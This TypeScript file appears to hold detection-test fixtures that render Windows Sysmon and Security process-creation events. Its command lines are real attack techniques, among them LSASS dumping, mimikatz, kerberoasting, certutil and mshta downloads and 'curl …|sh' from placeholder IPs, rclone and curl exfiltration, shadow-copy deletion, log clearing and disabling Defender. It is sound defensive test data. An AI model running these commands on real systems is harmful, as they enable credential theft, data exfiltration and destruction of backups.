import { rowsOf } from "./needle.ts";
import type { Needle } from "./needle.ts";

/** parent ;; program ;; command line ;; mark */
const STARTS = String.raw`
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\rundll32.exe ;; rundll32.exe C:\windows\System32\comsvcs.dll,#24 672 C:\ProgramData\lx.bin full ;; lx.bin
C:\Windows\System32\cmd.exe ;; C:\Temp\pd64.exe ;; pd64.exe -accepteula -ma lsass.exe C:\Temp\o.dmp ;; pd64.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\certutil.exe ;; certutil  -urlcache -split -f http://198.51.100.7/a.txt C:\ProgramData\a.exe ;; 198.51.100.7
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\certutil.exe ;; certutil -decodehex C:\Users\Public\blob.hex C:\Users\Public\svch.dll ;; blob.hex
C:\Windows\explorer.exe ;; C:\Windows\System32\mshta.exe ;; "C:\Windows\System32\mshta.exe" https://cdn.static-assets.example/q1.hta ;; q1.hta
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\regsvr32.exe ;; regsvr32 /s /n /u /i:https://pastes.example/raw/k2.sct scrobj.dll ;; k2.sct
C:\Windows\System32\wbem\WmiPrvSE.exe ;; C:\Windows\System32\msiexec.exe ;; msiexec /q /i http://203.0.113.61:8080/upd.msi ;; upd.msi
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wbem\WMIC.exe ;; wmic /node:"HR-WS07" process call create "cmd /c C:\Windows\Temp\run.bat" ;; HR-WS07
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wbem\WMIC.exe ;; wmic os get /format:"https://styles.example/payload.xsl" ;; payload.xsl
C:\Windows\explorer.exe ;; C:\Windows\System32\cmstp.exe ;; cmstp.exe /s /ns C:\Users\jdoe\AppData\Local\Temp\vpnprof.inf ;; vpnprof.inf
C:\Windows\System32\cmd.exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe ;; InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\gt.dll ;; gt.dll
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe ;; MSBuild.exe C:\Windows\Temp\settings.xml ;; settings.xml
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\odbcconf.exe ;; odbcconf.exe /S /A {REGSVR "C:\Users\Public\drv.tmp"} ;; drv.tmp
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\mavinject.exe ;; mavinject.exe 4172 /INJECTRUNNING C:\Temp\inj.dll ;; inj.dll
C:\Windows\explorer.exe ;; C:\Windows\System32\forfiles.exe ;; forfiles /p c:\windows\system32 /m notepad.exe /c "c:\users\public\stage0.exe" ;; stage0.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\hh.exe ;; hh.exe http://192.0.2.77/help.chm ;; help.chm
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\esentutl.exe ;; esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Temp\nt.bak ;; nt.bak
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\ntdsutil.exe ;; ntdsutil "ac i ntds" "ifm" "create full c:\perflogs\dbx" q q ;; dbx
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\vssadmin.exe ;; vssadmin  delete shadows /for=E: /oldest /quiet ;; /for=E:
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wbadmin.exe ;; wbadmin delete systemstatebackup -keepVersions:0 -quiet ;; systemstatebackup
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\bcdedit.exe ;; bcdedit /set {default} bootstatuspolicy ignoreallfailures ;; ignoreallfailures
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wevtutil.exe ;; wevtutil.exe cl "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational" ;; wevtutil.exe cl
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\fsutil.exe ;; fsutil.exe usn deletejournal /D C: ;; deletejournal
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg  save hklm\system C:\Windows\Temp\1.sav /y ;; 1.sav
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg.exe add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\osk.exe" /v Debugger /d cmd.exe /f ;; osk.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v Teams /d "C:\Users\jdoe\AppData\Roaming\tms.exe" /f ;; tms.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f ;; UseLogonCredential
C:\Windows\System32\net.exe ;; C:\Windows\System32\net1.exe ;; C:\Windows\system32\net1  user helpdesk2 Summer#2024 /add ;; helpdesk2
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\net.exe ;; net  localgroup "Remote Desktop Users" guest /add ;; Remote Desktop Users
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\net.exe ;; net use \\10.0.9.31\c$ /user:CORP\adm-kl P@ss ;; 10.0.9.31
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\schtasks.exe ;; schtasks /create /s FIN-DB02 /ru SYSTEM /sc once /st 00:00 /tn "Adobe Sync" /tr "rundll32 C:\Users\Public\as.dll,Start" ;; FIN-DB02
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\sc.exe ;; sc.exe \\BACKUP03 create WinHelpSvc binPath= "cmd /c start C:\Windows\Temp\b.exe" ;; WinHelpSvc
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\sc.exe ;; sc sdset scmanager D:(A;;KA;;;WD) ;; sdset
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\nltest.exe ;; nltest /domain_trusts /all_trusts ;; domain_trusts
C:\Windows\System32\cmd.exe ;; C:\ProgramData\af.exe ;; af.exe -f "(objectcategory=computer)" -csv name dnsHostName ;; objectcategory=computer
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.9.8.7 connectport=3389 ;; 10.9.8.7
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh advfirewall set allprofiles state off ;; state off
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh wlan export profile folder=C:\Users\Public key=clear ;; key=clear
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh trace start capture=yes tracefile=C:\Temp\cap.etl ;; cap.etl
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA ;; SQBFAFgA
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell -c "Add-MpPreference -ExclusionPath C:\Users\Public\Music" ;; ExclusionPath
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell.exe -version 2 -c "& {. C:\Temp\gpp.ps1; Get-GPPPassword}" ;; gpp.ps1
C:\Windows\System32\cmd.exe ;; C:\Users\jdoe\Downloads\m.exe ;; m.exe "privilege::debug" "sekurlsa::logonpasswords" exit ;; sekurlsa
C:\Windows\System32\cmd.exe ;; C:\Users\Public\r.exe ;; r.exe kerberoast /outfile:C:\Users\Public\h.txt /nowrap ;; kerberoast
C:\Windows\System32\cmd.exe ;; C:\Users\jdoe\AppData\Local\Temp\sh.exe ;; sh.exe -c All,GPOLocalGroup --zipfilename loot --randomfilenames ;; GPOLocalGroup
C:\Windows\System32\cmd.exe ;; C:\ProgramData\svchst.exe ;; svchst.exe client 203.0.113.99:443 R:1080:socks ;; R:1080:socks
C:\Windows\System32\cmd.exe ;; C:\Temp\plink.exe ;; plink.exe -ssh -P 443 -N -R 3390:127.0.0.1:3389 tun@192.0.2.202 ;; 192.0.2.202
C:\Windows\System32\cmd.exe ;; C:\ProgramData\rc\rclone.exe ;; rclone.exe copy D:\Finance mega:fin --multi-thread-streams 12 -q ;; mega:fin
C:\Windows\System32\cmd.exe ;; C:\Program Files\WinRAR\Rar.exe ;; "C:\Program Files\WinRAR\Rar.exe" a -r -hpZz9 -v500m C:\PerfLogs\hr.rar \\FS02\HR$ ;; hr.rar
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\curl.exe ;; curl.exe -s -F file=@C:\PerfLogs\hr.zip https://store1.gofile.example/uploadFile ;; gofile
C:\Windows\System32\wbem\WmiPrvSE.exe ;; C:\Windows\System32\cmd.exe ;; cmd.exe /Q /c ipconfig 1> \\127.0.0.1\ADMIN$\__1699881234.55 2>&1 ;; ADMIN$\__1699
C:\Windows\System32\services.exe ;; C:\Windows\System32\cmd.exe ;; C:\Windows\system32\cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat ;; execute.bat
C:\Windows\System32\inetsrv\w3wp.exe ;; C:\Windows\System32\cmd.exe ;; "cmd.exe" /c cd /d C:\inetpub\wwwroot\up&dir ;; wwwroot\up
C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe ;; C:\Windows\System32\cmd.exe ;; "C:\Windows\system32\cmd.exe" /c hostname ;; sqlservr.exe
C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE ;; C:\Windows\System32\wscript.exe ;; wscript.exe C:\Users\jdoe\AppData\Roaming\doc1.js ;; doc1.js
C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE ;; C:\Windows\SysWOW64\explorer.exe ;; explorer.exe C:\Users\jdoe\AppData\Local\Temp\inv77.lnk ;; inv77.lnk
C:\Program Files\Java\jre\bin\java.exe ;; C:\Windows\System32\cmd.exe ;; cmd.exe /c net group "domain admins" /domain ;; domain admins
C:\Windows\System32\spoolsv.exe ;; C:\Windows\System32\rundll32.exe ;; rundll32.exe C:\Windows\System32\spool\drivers\x64\3\mspr.dll,Run ;; mspr.dll
C:\Windows\explorer.exe ;; C:\Windows\System32\wsl.exe ;; wsl.exe -e bash -c "curl 192.0.2.9/x|sh" ;; 192.0.2.9
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\tscon.exe ;; tscon 2 /dest:rdp-tcp#13 ;; /dest:rdp-tcp
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\takeown.exe ;; takeown /f C:\Windows\System32\Utilman.exe ;; Utilman
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\diskshadow.exe ;; diskshadow.exe /s C:\Users\Public\vs.txt ;; vs.txt
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\dnscmd.exe ;; dnscmd dc01 /config /serverlevelplugindll \\10.3.3.3\s\p.dll ;; serverlevelplugindll
C:\Windows\System32\cmd.exe ;; C:\Temp\sd.exe ;; sd.exe -accepteula -p 3 -s C:\Users\jdoe\Desktop\tools ;; Desktop\tools
C:\Windows\System32\cmd.exe ;; C:\ProgramData\AnyDesk.exe ;; AnyDesk.exe --install "C:\ProgramData\AnyDesk" --start-with-win --silent ;; start-with-win
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\rundll32.exe ;; rundll32 zipfldr.dll,RouteTheCall C:\Users\Public\pl.exe ;; RouteTheCall
C:\Windows\explorer.exe ;; C:\Windows\System32\rundll32.exe ;; rundll32.exe C:\Users\jdoe\AppData\Local\Temp\9f2.dat,#1 ;; 9f2.dat
C:\Windows\System32\cmd.exe ;; C:\Users\jdoe\AppData\Local\svchost.exe ;; C:\Users\jdoe\AppData\Local\svchost.exe ;; Local\svchost.exe
C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE ;; C:\Windows\System32\msdt.exe ;; msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=?" ;; ms-msdt
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\winrs.exe ;; winrs -r:EXCH01 -u:corp\svc_sql cmd ;; EXCH01
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\fltMC.exe ;; fltmc unload SysmonDrv ;; SysmonDrv
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\auditpol.exe ;; auditpol /set /category:"Detailed Tracking" /success:disable ;; Detailed Tracking
C:\Windows\System32\fodhelper.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; "powershell.exe" -ep bypass -f C:\Users\jdoe\up.ps1 ;; fodhelper.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\setspn.exe ;; setspn -T CORP -Q */* ;; setspn
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\cmdkey.exe ;; cmdkey /list ;; cmdkey
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\findstr.exe ;; findstr /S /I cpassword \\corp.example\sysvol\corp.example\policies\*.xml ;; cpassword
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg query HKLM /f password /t REG_SZ /s ;; /f password
C:\Windows\explorer.exe ;; C:\Windows\System32\conhost.exe ;; conhost.exe --headless cmd /c "C:\Users\Public\l.cmd" ;; --headless
C:\Windows\explorer.exe ;; C:\Windows\System32\wscript.exe ;; "C:\Windows\System32\WScript.exe" "C:\Users\jdoe\Downloads\Invoice_8841.vbs" ;; Invoice_8841
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe ;; "csc.exe" /noconfig /fullpaths @"C:\Users\jdoe\AppData\Local\Temp\q0pmz3.cmdline" ;; csc.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\taskkill.exe ;; taskkill /F /IM MsMpEng.exe ;; MsMpEng
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\net.exe ;; net stop "Veeam Backup Service" /y ;; Veeam
C:\Windows\System32\cmd.exe ;; C:\Users\Public\lk.exe ;; lk.exe -m all -k 3f9c -nomutex ;; nomutex
C:\Windows\System32\cmd.exe ;; C:\ProgramData\netscan.exe ;; netscan.exe /hide /auto:C:\ProgramData\res.xml /range:10.0.0.1-10.0.255.254 ;; netscan
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\dsquery.exe ;; dsquery * -filter "(servicePrincipalName=*)" -limit 0 ;; servicePrincipalName
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\whoami.exe ;; whoami /priv /fo list ;; whoami
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\icacls.exe ;; icacls "C:\System Volume Information" /grant Everyone:F /t ;; Everyone:F
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\attrib.exe ;; attrib +s +h C:\ProgramData\Intel\ms.exe ;; Intel\ms.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\ftp.exe ;; ftp -s:C:\Temp\s.txt -A 192.0.2.141 ;; 192.0.2.141
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\expand.exe ;; expand \\203.0.113.21\pub\pk.cab C:\ProgramData\pk.exe ;; pk.cab
C:\Windows\System32\svchost.exe ;; C:\Windows\System32\mmc.exe ;; C:\Windows\system32\mmc.exe -Embedding ;; mmc.exe
C:\Windows\System32\wsmprovhost.exe ;; C:\Windows\System32\HOSTNAME.EXE ;; "C:\Windows\system32\HOSTNAME.EXE" ;; wsmprovhost
C:\Windows\System32\lsass.exe ;; C:\Windows\System32\cmd.exe ;; cmd.exe /k cd C:\PerfLogs\w7 ;; PerfLogs\w7
C:\Windows\System32\winlogon.exe ;; C:\Windows\System32\cmd.exe ;; sethc.exe 211 ;; sethc
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\pnputil.exe ;; pnputil /add-driver C:\Users\Public\rt.inf /install ;; rt.inf
C:\Windows\System32\explorer.exe ;; C:\Windows\System32\cmd.exe ;; cmd /c mklink /d C:\vs \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy4\ ;; HarddiskVolumeShadowCopy4
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\manage-bde.exe ;; manage-bde -on D: -pw -used ;; manage-bde
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\tar.exe ;; tar.exe -cf C:\Users\Public\m.tar C:\Users\jdoe\AppData\Roaming\Mozilla\Firefox\Profiles ;; m.tar
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\quser.exe ;; quser /server:JMP01 ;; JMP01
`;

function started(parent: string, exe: string, line: string) {
  return {
    event_type: "winsec",
    win_event_id: 1,
    provider: "Microsoft-Windows-Sysmon",
    channel: "Microsoft-Windows-Sysmon/Operational",
    exe,
    arguments: line,
    command: exe.slice(exe.lastIndexOf("\\") + 1),
    ParentImage: parent,
  };
}

function startedInWords(parent: string, exe: string, line: string) {
  return {
    ...started(parent, exe, line),
    summary: "Process Create:",
    message: `Process Create:\r\nRuleName: -\r\nImage: ${exe}\r\nCommandLine: ${line}\r\nCurrentDirectory: C:\\Windows\\system32\\\r\nIntegrityLevel: High\r\nParentImage: ${parent}\r\nParentCommandLine: "${parent}"`,
  };
}

function created(parent: string, exe: string, line: string) {
  return {
    event_type: "winsec",
    win_event_id: 4688,
    provider: "Microsoft-Windows-Security-Auditing",
    channel: "Security",
    summary: "A new process has been created.",
    exe,
    arguments: line,
    command: exe.slice(exe.lastIndexOf("\\") + 1),
    pid: "0x11f4",
    message: `A new process has been created.\r\n\r\nProcess Information:\r\n\tNew Process ID:\t\t0x2d54\r\n\tNew Process Name:\t${exe}\r\n\tToken Elevation Type:\t%%1936\r\n\tMandatory Label:\t\tS-1-16-12288\r\n\tCreator Process ID:\t0x11f4\r\n\tCreator Process Name:\t${parent}\r\n\tProcess Command Line:\t${line}\r\n\r\nToken Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.`,
  };
}

const TELLERS = [started, startedInWords, created] as const;

/** Programs started, as Sysmon tells it with and without a rendered text, and as Security does. */
export const MORE_WINDOWS_STARTS: readonly Needle[] = rowsOf(STARTS).map(
  ([parent = "", exe = "", line = "", mark = ""], at) => ({
    platform: "windows",
    mark,
    fields: (TELLERS[at % 3] ?? started)(parent, exe, line),
  }),
);
